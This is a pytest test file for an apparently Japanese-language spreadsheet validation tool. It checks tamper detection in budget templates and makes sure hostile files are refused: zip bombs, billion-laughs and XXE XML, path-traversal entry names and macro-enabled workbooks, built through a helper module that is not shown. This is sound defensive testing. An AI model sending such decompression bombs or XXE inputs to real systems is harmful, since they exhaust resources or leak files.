    result = check_file(book.save(tmp_path / "unprotected.xlsx"))
    t213 = only(result, "T213")
    assert t213.severity == "warning" and f"「{SHEET}」の保護が解除" in t213.message
    t214 = only(result, "T214")
    assert (t214.cell, t214.field, t214.severity) == ("G23", "costs.2021.budget", "error")
    assert "作成時「123235」" in t214.message and "現在「1」" in t214.message


@pytest.mark.parametrize("path", ["project_name", "department", "costs.2020.general_fund",
                                  "costs.2021.staff_fte", "indicators.1.2019.actual"])
def test_locked_cell_changed_is_compared_with_meta(book, tmp_path, path):
    ref = cell(path)
    if path in ("project_name", "department"):
        book.string(ref, "書き換えた値")
    else:
        book.number(ref, 777)
    result = check_file(book.save(tmp_path / "locked.xlsx"))
    t214 = only(result, "T214")
    assert (t214.cell, t214.field, t214.severity) == (ref, path, "error")
    assert "変更できないセル" in t214.message and ("書き換えた値" in t214.message or "777" in t214.message)


def test_locked_cell_emptied(book, tmp_path):
    book.blank(cell("division"))
    result = check_file(book.save(tmp_path / "emptied.xlsx"))
    t214 = only(result, "T214")
    assert t214.cell == "G6" and "作成時「情報政策課」" in t214.message


@pytest.mark.parametrize("edit", ["values_and_cell", "digest", "garbage", "removed", "constants"])
def test_meta_edited(book, tmp_path, edit):
    if edit == "values_and_cell":  # the cell changed, and _meta "fixed" to match it
        locked = book.meta_value("locked_values").replace('"f_costs_2020_budget":86185',
                                                          '"f_costs_2020_budget":99999')
        book.set_meta("locked_values", locked)
        book.number(cell("costs.2020.budget"), 99999)
    elif edit == "digest":
        book.set_meta("locked_digest", "0" * 64)
    elif edit == "garbage":
        book.set_meta("locked_values", "{broken")
    elif edit == "constants":
        book.set_meta("constant_cells", '[["f_costs_2022_settlement"], 7]')
    else:
        book.blank(f"B{book.meta_row('locked_values')}", META)
    result = check_file(book.save(tmp_path / "meta.xlsx"))
    t215 = only(result, "T215")
    assert t215.severity == "error" and "「_meta」の内容が作成時から変更" in t215.message
    assert not result.ok


def test_meta_digest_matches_what_the_writer_stored(book):
    """The T215 check is not vacuous: an untouched template's digest verifies."""
    locked = json.loads(book.meta_value("locked_values"))
    assert meta.digest(locked) == book.meta_value("locked_digest")
    assert "f_costs_2020_budget" in locked and "c_rates_2022_salary_per_fte" in locked


def test_formula_cell_unlocked(book, tmp_path):
    unlocked_style = re.search(r's="(\d+)"', book.cell_xml(cell("costs.2022.budget"))).group(1)
    ref = cell("costs.2022.settlement")
    book.set_cell(ref, book.cell_xml(ref).split(">", 1)[1].rsplit("</c>", 1)[0], style=int(unlocked_style))
    result = check_file(book.save(tmp_path / "unlock.xlsx"))
    t216 = only(result, "T216")
    assert (t216.cell, t216.severity) == (ref, "warning") and "ロックが解除" in t216.message


def test_label_changed(book, tmp_path):
    book.string("B23", "当初予算額")
    result = check_file(book.save(tmp_path / "label.xlsx"))
    t217 = only(result, "T217")
    assert t217.cell == "B23" and "「予算額」から「当初予算額」" in t217.message


def test_hidden_sheets_veryhidden_or_hidden_or_shown(book, tmp_path):
    book.replace("xl/workbook.xml", 'state="veryHidden"', 'state="hidden"', 2)  # as LibreOffice saves
    book.replace("xl/workbook.xml", '<workbookProtection lockStructure="1"/>', "")  # dropped by LibreOffice
    result = check_file(book.save(tmp_path / "hidden.xlsx"))
    assert tamper_codes(result) == set() and result.record == seed_record("088")
    book.replace("xl/workbook.xml", '<sheet name="_meta" sheetId="3" state="hidden"', '<sheet name="_meta" sheetId="3"')
    result = check_file(book.save(tmp_path / "shown.xlsx"))
    assert "「_meta」" in only(result, "T218").message and result.ok


def test_extra_sheet_and_reordered_sheets_are_warnings_and_still_read(book, tmp_path):
    sheet = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<worksheet xmlns="http://schemas'
             '.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="inlineStr">'
             '<is><t>メモ</t></is></c></row></sheetData></worksheet>')
    book.put("xl/worksheets/sheet4.xml", sheet)
    book.replace("xl/_rels/workbook.xml.rels", "</Relationships>",
                 '<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
                 'relationships/worksheet" Target="worksheets/sheet4.xml"/></Relationships>')
    book.replace("[Content_Types].xml", "</Types>",
                 '<Override PartName="/xl/worksheets/sheet4.xml" ContentType="application/vnd.openxmlformats-'
                 'officedocument.spreadsheetml.worksheet+xml"/></Types>')
    book.replace("xl/workbook.xml", "<sheets>", '<sheets><sheet name="メモ" sheetId="4" r:id="rId99"/>')
    result = check_file(book.save(tmp_path / "extra.xlsx"))
    assert result.record == seed_record("088") and result.ok
    t211 = only(result, "T211")
    assert t211.severity == "warning" and "「メモ」" in t211.message
    assert only(result, "T212").severity == "warning"


# --------------------------------------------------------------------------- 6. files that are not what they claim

UNREADABLE = [
    ("write_xls", "F101", "Excel 97-2003"),
    ("write_encrypted", "F102", "パスワード"),
    ("write_csv_renamed", "F103", "CSV"),
    ("write_csv_utf8_bom_renamed", "F103", "CSV"),
    ("write_pdf_renamed", "F104", "PDF"),
    ("write_empty", "F105", "0 バイト"),
    ("write_ods", "F106", ".ods"),
    ("write_xlsb", "F107", ".xlsb"),
    ("write_docx_renamed", "F108", "Word"),
    ("write_png_renamed", "F109", "認識できない"),
    ("write_truncated_zip", "F110", "壊れている"),
    ("write_truncated_tail", "F110", "壊れている"),
    ("write_too_many_entries", "F111", "大きすぎる"),
    ("write_zip_bomb", "F112", "ZIP 爆弾"),
    ("write_zip_bomb_lying", "F112", "ZIP 爆弾"),
    ("write_zip_bomb_sneaky", "F112", "ZIP 爆弾"),
    ("write_dotdot_entry", "F113", "不正な内部名"),
    ("write_missing_workbook", "F114", "xl/workbook.xml"),
    ("write_billion_laughs_workbook", "F115", "XML 爆弾"),
    ("write_billion_laughs_sheet", "F115", "XML 爆弾"),
    ("write_xxe_sheet", "F115", "外部参照"),
    ("write_utf7_sheet", "F116", "XML として読み取れません"),
    ("write_encrypted_entry", "F117", "ZIPの暗号化"),
]


@pytest.mark.parametrize(("writer", "code", "words"), UNREADABLE, ids=[u[0][6:] for u in UNREADABLE])
def test_unreadable_file_gets_one_clear_finding_and_exit_code_2(tmp_path, capsys, writer, code, words):
    path = getattr(badfiles, writer)(tmp_path)
    result = check_file(path)
    assert not result.readable and result.record is None and not result.ok
    assert [(f.code, f.severity) for f in result.findings] == [(code, "error")]
    assert words in result.findings[0].message and path.name in result.findings[0].message
    assert main(["check", str(path), "--json"]) == 2
    out, err = capsys.readouterr()
    report = json.loads(out)
    assert report["ok"] is False and report["record"] is None
    assert [f["code"] for f in report["findings"]] == [code]
    assert "Traceback" not in err and "内部エラー" not in err


def _template_entries(path: Path, skip: str) -> list:
    with zipfile.ZipFile(path) as zf:
        return [badfiles.deflated(i.filename, zf.read(i)) for i in zf.infolist() if i.filename != skip]


@pytest.mark.parametrize("attack", ["billion_laughs_strings", "quadratic_strings", "xxe_meta", "bomb_sheet",
                                    "lying_bomb_sheet"])
def test_our_own_template_turned_hostile_is_refused_with_one_finding(templates, tmp_path, attack):
    """The hostile part sits behind a valid _meta: nothing said about the content survives."""
    src = templates["088"]
    if attack == "billion_laughs_strings":
        data = badfiles.rezip(src.read_bytes(), {"xl/sharedStrings.xml": badfiles.billion_laughs("sst")})
    elif attack == "quadratic_strings":
        data = badfiles.rezip(src.read_bytes(), {"xl/sharedStrings.xml": badfiles.quadratic_blowup("sst")})
    elif attack == "xxe_meta":
        data = badfiles.rezip(src.read_bytes(), {META: badfiles.external_entity("worksheet")})
    else:
        stream, size, crc = badfiles._bomb_stream(badfiles._SHEET_HEAD, b" ", 64 * badfiles.MiB)
        declared = size if attack == "bomb_sheet" else 48_000
        bomb = badfiles.RawEntry(MAIN, stream, declared, crc)
        data = badfiles.raw_zip([*_template_entries(src, MAIN), bomb])
    path = tmp_path / "hostile.xlsx"
    path.write_bytes(data)
    started = time.perf_counter()
    result = check_file(path)
    assert time.perf_counter() - started < 5
    assert not result.readable
    assert len(result.findings) == 1 and result.findings[0].code in ("F112", "F115")


def test_zip_bomb_through_the_cli_is_bounded_in_memory_and_time(tmp_path):
    runner = ("import resource, sys\nfrom sheettool.cli import main\nrc = main(sys.argv[1:])\n"
              "print('MAXRSS_KB', resource.getrusage(resource.RUSAGE_SELF).ru_maxrss, file=sys.stderr)\n"
              "sys.exit(rc)\n")
    for writer in (badfiles.write_zip_bomb, badfiles.write_zip_bomb_lying, badfiles.write_billion_laughs_sheet):
        path = writer(tmp_path)
        started = time.perf_counter()
        proc = subprocess.run([sys.executable, "-c", runner, "check", str(path)], capture_output=True,
                              text=True, timeout=60, cwd=ROOT)
        elapsed = time.perf_counter() - started
        assert proc.returncode == 2, proc.stderr
        assert "Traceback" not in proc.stderr
        maxrss_mb = int(re.search(r"MAXRSS_KB (\d+)", proc.stderr).group(1)) / 1024
        assert maxrss_mb < 200, f"{path.name}: {maxrss_mb:.0f} MB"  # the bomb is 1 GiB unpacked
        assert elapsed < 15, f"{path.name}: {elapsed:.1f} s"


@pytest.mark.parametrize(("writer", "code"), [("write_xls", "F101"), ("write_encrypted", "F102"),
                                              ("write_csv_renamed", "F103"), ("write_pdf_renamed", "F104"),
                                              ("write_truncated_zip", "F110"), ("write_zip_bomb", "F112"),
                                              ("write_billion_laughs_workbook", "F115")])
def test_cli_subprocess_on_unreadable_files(tmp_path, writer, code):
    path = getattr(badfiles, writer)(tmp_path)
    for args in (["--json"], []):
        proc = subprocess.run([sys.executable, "-m", "sheettool.cli", "check", str(path), *args],
                              capture_output=True, text=True, timeout=60, cwd=ROOT)
        assert proc.returncode == 2
        assert "Traceback" not in proc.stderr + proc.stdout
        if args:
            report = json.loads(proc.stdout)
            assert [f["code"] for f in report["findings"]] == [code]
        else:
            assert "読み取れません" in proc.stdout and f"[{code}]" in proc.stdout


def test_macro_enabled_copy_of_the_template_is_read_and_macros_ignored(templates, tmp_path):
    data = templates["088"].read_bytes()
    types = badfiles._macro_enabled_types(data, b'<Default Extension="bin" '
                                                b'ContentType="application/vnd.ms-office.vbaProject"/>')
    vba = badfiles.ole2_bytes([badfiles.OleNode("VBA", None, [badfiles.OleNode("dir", b"\x01" * 100)]),
                               badfiles.OleNode("PROJECT", b'ID="{00000000-0000-0000-0000-000000000000}"\r\n')])
    path = tmp_path / "088.xlsm"
    path.write_bytes(badfiles.rezip(data, {"[Content_Types].xml": types, "xl/vbaProject.bin": vba}))
    result = check_file(path)
    f118 = only(result, "F118")
    assert f118.severity == "warning" and "マクロ" in f118.message and "無視" in f118.message
    assert result.record == seed_record("088") and result.ok
    assert main(["check", str(path)]) == 0


# --------------------------------------------------------------------------- 7. command line and JSON


def test_check_json_shape_and_exit_codes(templates, book, tmp_path, capsys):
    assert main(["check", str(templates["089"]), "--json"]) == 0
    report = json.loads(capsys.readouterr().out)
    assert set(report) >= {"file", "ok", "record", "findings"}
    assert report["ok"] is True and report["record"] == seed_record("089")
    assert report["file"] == templates["089"].name

    book.number(cell("costs.2022.settlement"), 1)
    bad = book.save(tmp_path / "bad.xlsx")
    assert main(["check", str(bad), "--json"]) == 1
    report = json.loads(capsys.readouterr().out)
    assert report["ok"] is False and report["record"]["project_no"] == "088"
    t202 = next(f for f in report["findings"] if f["code"] == "T202")
    assert t202 == {"severity": "error", "code": "T202", "sheet": SHEET, "cell": "H24",
                    "field": "costs.2022.settlement", "message": t202["message"]}
    assert "数式が変更されています" in t202["message"]
    assert all(set(f) == {"severity", "code", "sheet", "cell", "field", "message"} for f in report["findings"])


def test_check_text_output_names_the_cell(book, tmp_path, capsys):
    book.string(cell("costs.2023.budget"), "abc")
    assert main(["check", str(book.save(tmp_path / "abc.xlsx"))]) == 1
    out = capsys.readouterr().out
    assert "修正が必要です" in out and f"エラー [V302] {SHEET}!I23" in out and "「abc」" in out


def test_check_missing_file_is_usage_error(tmp_path, capsys):
    assert main(["check", str(tmp_path / "nothing.xlsx")]) == 2
    assert "ファイルが見つかりません" in capsys.readouterr().err


# --------------------------------------------------------------------------- 8. --annotate


def _fill(cell_obj) -> str:
    return (cell_obj.fill.fgColor.rgb or "")[-6:] if cell_obj.fill and cell_obj.fill.fill_type else ""


def test_annotated_copy_marks_every_finding_and_leaves_the_original_alone(book, tmp_path, capsys):
    book.number(cell("costs.2022.settlement"), 999)  # T202, error
    book.string(cell("costs.2023.budget"), "１２，３４５")  # V301, warning
    book.replace(MAIN, '<sheetProtection sheet="1" objects="1" scenarios="1" formatRows="0"/>', "")  # T213, no cell
    src = book.save(tmp_path / "返却.xlsx")
    before = sha256(src)
    out = tmp_path / "返却_指摘.xlsx"
    assert main(["check", str(src), "--annotate", str(out)]) == 1
    assert sha256(src) == before
    result = check_file(src)
    wb = openpyxl.load_workbook(out)
    ws = wb[SHEET]
    assert _fill(ws["H24"]) == "FFC7CE" and _fill(ws["I23"]) == "FFEB9C"
    t202 = only(result, "T202")
    assert t202.message in ws["H24"].comment.text and "【エラー】" in ws["H24"].comment.text
    assert only(result, "V301").message in ws["I23"].comment.text
    assert ws["H23"].comment is None and _fill(ws["H23"]) != "FFC7CE"
    listing = wb[FINDINGS_SHEET]
    rows = list(listing.iter_rows(min_row=2, values_only=True))
    assert len(rows) == len(result.findings)
    assert ("エラー", "T202", SHEET, "H24", "costs.2022.settlement", t202.message) in rows
    assert any(r[1] == "T213" and r[3] in (None, "") for r in rows)  # findings without a cell are listed too
    assert wb.sheetnames[0] == FINDINGS_SHEET
    capsys.readouterr()


def test_annotate_onto_the_input_itself_is_refused(book, tmp_path, capsys):
    src = book.save(tmp_path / "same.xlsx")
    before = sha256(src)
    with pytest.raises(AnnotateError) as info:
        annotate(src, check_file(src), src)
    assert info.value.finding.code == "A701"
    assert sha256(src) == before
    other_spelling = tmp_path / "." / "same.xlsx"
    capsys.readouterr()
    # the command refuses before it reads or writes anything (outputs.guard): exit 2
    assert main(["check", str(src), "--annotate", str(other_spelling), "--json"]) == 2
    captured = capsys.readouterr()
    assert captured.out == "" and "[O901]" in captured.err and "同じファイル" in captured.err
    assert "Traceback" not in captured.err
    assert sha256(src) == before


@pytest.mark.parametrize("link", ["symlink", "hardlink"])
def test_annotate_through_a_link_to_the_input_leaves_the_input_alone(book, tmp_path, link):
    import os

    src = book.save(tmp_path / "linked.xlsx")
    before = sha256(src)
    out = tmp_path / "link.xlsx"
    if link == "symlink":
        out.symlink_to(src)
    else:  # a second name for the same file (same inode) is the same file
        os.link(src, out)
    with pytest.raises(AnnotateError) as info:
        annotate(src, check_file(src), out)
    assert info.value.finding.code == "A701"
    assert sha256(src) == before and sha256(out) == before


def test_annotate_an_unreadable_file(tmp_path, capsys):
    path = badfiles.write_csv_renamed(tmp_path)
    out = tmp_path / "annotated.xlsx"
    assert main(["check", str(path), "--annotate", str(out), "--json"]) == 2
    report = json.loads(capsys.readouterr().out)
    assert [f["code"] for f in report["findings"]] == ["F103", "A702"]
    assert not out.exists()


def test_annotated_copy_of_a_renamed_sheet_marks_the_right_cells(book, tmp_path):
    book.rename_sheet(SHEET, "提出用")
    book.string(cell("costs.2023.budget"), "abc")
    src = book.save(tmp_path / "renamed.xlsx")
    out = tmp_path / "renamed_out.xlsx"
    annotate(src, check_file(src), out)
    ws = openpyxl.load_workbook(out)["提出用"]
    assert _fill(ws["I23"]) == "FFC7CE" and "「abc」" in ws["I23"].comment.text
